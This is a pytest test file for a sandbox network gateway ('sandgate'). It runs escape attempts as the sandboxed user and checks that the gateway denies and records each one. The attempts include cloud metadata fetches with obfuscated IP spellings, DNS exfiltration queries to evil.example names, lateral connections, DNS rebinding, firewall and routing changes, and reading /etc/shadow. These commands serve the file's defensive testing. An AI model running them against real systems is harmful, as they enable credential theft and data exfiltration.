"""Attacks from inside a sandbox, as the sandboxed process would try them.

Every test runs real clients as the unprivileged uid in a fresh sandbox behind the gateway of
the shared test world, then checks both sides: what the client observed, and what the gateway
recorded (verdict, reason, category, uid). A test that only checked one side could pass while
the other lied.
"""

from __future__ import annotations

import threading
import time

import pytest

from sandgate.events.schema import Event, Kind
from sandgate.session.runner import UID_BASE

from .conftest import Runner, conns, dns, http

pytestmark = pytest.mark.kernel

# --noproxy: connect directly, as an attacker would; web ports still reach the proxy
# transparently (tests/kernel/test_proxy.py), every other port meets the gateway's rules.
CURL = "curl --noproxy '*' -sS -m 3 -o /dev/null -w '%{http_code}'"


def test_model_server_reachable_only_on_its_port(sandbox: Runner) -> None:
    r = sandbox.sh(
        f"{CURL} http://10.77.0.10:8000/v1/models; echo; "
        f"{CURL} http://10.77.0.10:22/ || echo blocked",
        mode="locked",
    )
    assert r.exit_code == 0
    events = sandbox.events(r)
    allowed = conns(events, "10.77.0.10", 8000)
    assert allowed and allowed[0].verdict == "allow"
    assert allowed[0].reason == "allow.exempt" and "model server" in (allowed[0].rule or "")
    assert allowed[0].uid == UID_BASE
    other = conns(events, "10.77.0.10", 22)
    assert other and all(e.verdict == "deny" for e in other)
    assert other[0].reason == "deny.private" and other[0].uid == UID_BASE
    assert other[0].category == "TCP"


@pytest.mark.parametrize("port", [22, 445, 2049])
def test_nas_unreachable_and_nothing_arrives(sandbox: Runner, port: int) -> None:
    before = len(sandbox.world_log("nas"))
    r = sandbox.sh(f"{CURL} http://10.77.0.20:{port}/; echo rc=$?", mode="open")
    events = conns(sandbox.events(r), "10.77.0.20", port)
    assert events and all(e.verdict == "deny" and e.reason == "deny.private" for e in events)
    assert events[0].uid == UID_BASE
    time.sleep(0.2)
    arrived = [x for x in sandbox.world_log("nas")[before:] if x.get("port") == port]
    assert not arrived, f"the NAS saw a connection on {port}: {arrived}"


def test_cloud_metadata_by_ip_and_by_odd_spellings(sandbox: Runner) -> None:
    r = sandbox.sh(
        f"{CURL} http://169.254.169.254/latest/meta-data/; "
        f"{CURL} http://2852039166/; {CURL} http://0xa9fea9fe/; {CURL} http://0251.0376.0251.0376/",
        mode="open",
    )
    # Port 80 meets the transparent proxy, which judges the Host; other ports meet the rules.
    events = sandbox.events(r)
    web = http(events, "169.254.169.254", 80)
    assert len({e.details.get("sport") for e in web}) >= 4  # four separate attempts
    assert all(e.verdict == "deny" and e.reason == "deny.metadata" for e in web)
    r = sandbox.sh(
        f"{CURL} http://169.254.169.254:8080/; {CURL} http://0xa9fea9fe:8080/", mode="open"
    )
    l3 = conns(sandbox.events(r), "169.254.169.254", 8080)
    assert len({e.details.get("sport") for e in l3}) >= 2
    assert all(e.verdict == "deny" and e.reason == "deny.metadata" for e in l3)


def test_gateway_own_ports_closed_but_dns(sandbox: Runner) -> None:
    r = sandbox.sh(
        "gw=$(awk '/nameserver/{print $2}' /etc/resolv.conf); "
        f"{CURL} http://$gw:22/; {CURL} http://$gw:8080/; "
        "dig +short +time=2 +tries=1 @$gw example.com",
        mode="open",
    )
    events = sandbox.events(r)
    gw_drops = [e for e in events if e.kind is Kind.CONN and e.port in (22, 8080)]
    assert {e.port for e in gw_drops} == {22, 8080}
    assert all(e.verdict == "deny" and e.reason == "deny.gateway" for e in gw_drops)
    assert _a(dns(events, "example.com"))[0].verdict == "allow"


def test_lateral_to_another_guest_is_dropped(sandbox: Runner) -> None:
    # Guest B serves HTTP; guest A tries to reach it through the gateway.
    server = {}

    def serve() -> None:
        server["result"] = sandbox.sh(
            "timeout 8 python3 -m http.server 8080 >/dev/null 2>&1; true", mode="open"
        )

    t = threading.Thread(target=serve)
    t.start()
    time.sleep(1.5)
    status = sandbox.stack.gateway.client().call("status")
    addresses = [g["address"] for g in status["guests"].values()]
    assert addresses, "guest B is not up"
    target = addresses[0]
    r = sandbox.sh(f"{CURL} http://{target}:8080/ || echo blocked", mode="open")
    t.join()
    events = conns(sandbox.events(r), target, 8080)
    assert events and all(e.verdict == "deny" and e.reason == "deny.lateral" for e in events)


def test_dns_to_an_outside_server_is_answered_by_the_gateway(sandbox: Runner) -> None:
    before = len(sandbox.world_log("dns"))
    r = sandbox.sh(
        "dig +time=2 +tries=1 @198.51.100.53 leak-test-1.evil.example; "
        "dig +tcp +time=2 +tries=1 @198.51.100.53 leak-test-2.evil.example",
        mode="locked",
    )
    events = sandbox.events(r)
    redirected = [e for e in events if e.kind is Kind.CONN and e.reason == "deny.dns_redirect"]
    assert {e.protocol for e in redirected} == {"udp", "tcp"}
    questions = dns(events, "leak-test-1.evil.example") + dns(events, "leak-test-2.evil.example")
    assert len(questions) == 2 and all(q.verdict == "deny" for q in questions)
    assert all(q.uid == UID_BASE for q in questions)
    time.sleep(0.2)
    upstream = [x for x in sandbox.world_log("dns")[before:] if "leak-test" in str(x.get("qname"))]
    assert not upstream, "locked mode forwarded a denied name upstream"


def test_locked_mode_sends_nothing_upstream_for_exfiltration_labels(sandbox: Runner) -> None:
    label = "a" * 60
    before = len(sandbox.world_log("dns"))
    r = sandbox.sh(
        f"for i in 1 2 3; do dig +short +time=1 +tries=1 {label}$i.exfil.evil.example; done",
        mode="locked",
    )
    asked = [e for e in sandbox.events(r, Kind.DNS) if e.name and label in e.name]
    assert len(asked) >= 3 and all(e.verdict == "deny" and e.reason == "deny.locked" for e in asked)
    time.sleep(0.2)
    assert not [x for x in sandbox.world_log("dns")[before:] if label in str(x.get("qname"))]


def test_hardcoded_public_ip_and_icmp_in_locked_mode(sandbox: Runner) -> None:
    r = sandbox.sh(
        f"{CURL} http://198.51.100.10/; ping -c 1 -W 1 198.51.100.10; true", mode="locked"
    )
    events = conns(sandbox.events(r), "198.51.100.10") + http(sandbox.events(r), "198.51.100.10")
    assert {e.kind for e in events} == {Kind.CONN, Kind.HTTP}  # ping at L3, HTTP at the proxy
    assert all(e.verdict == "deny" and e.reason == "deny.locked" for e in events)
    assert all(e.uid == UID_BASE for e in events)


def test_open_mode_reaches_the_internet_by_name_and_ip(sandbox: Runner) -> None:
    r = sandbox.sh(
        f"{CURL} https://example.com/ && echo && {CURL} http://198.51.100.10/echo", mode="open"
    )
    assert r.exit_code == 0
    events = sandbox.events(r)
    assert _a(dns(events, "example.com"))[0].verdict == "allow"  # AAAA: deny.ipv6
    tls = http(events, "203.0.113.10", 443)
    assert tls[0].verdict == "allow" and tls[0].details["door"] == "transparent"
    assert tls[0].name == "example.com" and tls[0].details["tls"] == "passthrough"
    plain = http(events, "198.51.100.10", 80)
    assert plain[0].reason == "allow.open" and plain[0].details["status"] == 200


def test_rebinding_name_is_refused(sandbox: Runner) -> None:
    r = sandbox.sh(
        "dig +time=2 +tries=1 rebind.example; dig +short metadata.example; "
        f"{CURL} http://rebind.example/ || true",
        mode="open",
    )
    events = sandbox.events(r)
    for name in ("rebind.example", "metadata.example"):
        asked = [e for e in dns(events, name) if e.details.get("qtype") == "A"]
        assert asked and all(e.verdict == "deny" and e.reason == "deny.rebinding" for e in asked)
        assert all(e.uid is not None for e in asked)
    assert not conns(events, "10.77.0.20")  # curl never even got an address


def test_allowlist_reaches_only_addresses_of_allowed_names(sandbox: Runner) -> None:
    r = sandbox.sh(
        f"{CURL} https://pypi.org/simple/; echo; "
        f"{CURL} https://example.com/ || echo no-dns; "
        f"{CURL} --resolve example.com:443:203.0.113.10 https://example.com/ || echo blocked; "
        f"{CURL} http://203.0.113.20:8080/ || echo other-port",
        mode="allowlist",
    )
    events = sandbox.events(r)
    assert _a(dns(events, "pypi.org"))[0].verdict == "allow"
    assert http(events, "203.0.113.20", 443)[0].reason == "allow.rule"
    assert _a(dns(events, "example.com"))[0].reason == "deny.not_allowlisted"
    # An address obtained without our resolver was never pinned: refused at L3.
    refused = conns(events, "203.0.113.10", 443)
    assert refused and all(e.reason == "deny.not_allowlisted" for e in refused)
    # pypi.org's address was pinned for every port (its rule names none): 8080 passes L3.
    assert conns(events, "203.0.113.20", 8080)[0].verdict == "allow"


def test_quic_and_dns_over_tls_are_dropped(sandbox: Runner) -> None:
    r = sandbox.sh(
        'python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
        "s.sendto(b'x', ('203.0.113.10', 443))\"; "
        f"{CURL} telnet://198.51.100.53:853 || true",
        mode="open",
    )
    events = sandbox.events(r)
    assert conns(events, "203.0.113.10", 443)[0].reason == "deny.quic"
    assert conns(events, "198.51.100.53", 853)[0].reason == "deny.dns_bypass"


def test_network_admin_from_inside_fails(sandbox: Runner) -> None:
    out = _capture(
        sandbox,
        "nft list ruleset 2>&1; "
        "ip addr add 10.201.0.99/30 dev eth0 2>&1; "
        "ip route add 10.0.0.0/8 dev eth0 2>&1; "
        "ip link set eth0 down 2>&1; "
        "unshare -n true 2>&1; "
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>&1 "
        "| tail -1; "
        "echo run: $(ls -A /run); id -u; cat /etc/shadow 2>&1 | head -1",
    )
    assert out.count("Operation not permitted") >= 5, out
    assert "table" not in out  # no ruleset was listed
    # Nothing of the host's /run (no sockets): only sandgate's own files for the sandbox.
    assert "run: sandgate\n" in out
    assert str(UID_BASE) in out
    assert "Permission denied" in out  # /etc/shadow


def _a(events: list[Event]) -> list[Event]:
    """The A questions (AAAA ones are refused as deny.ipv6: the gateway routes IPv4 only)."""
    return [e for e in events if e.details.get("qtype") == "A"]


def _capture(sandbox: Runner, script: str) -> str:
    import subprocess
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as d:
        work = Path(d)
        work.chmod(0o777)
        sandbox.sh(f"({script}) > /work/out.txt 2>&1", mode="open", workdir=work)
        text = (work / "out.txt").read_text()
        subprocess.run(["rm", "-rf", str(work / "out.txt")], check=False)
        return text
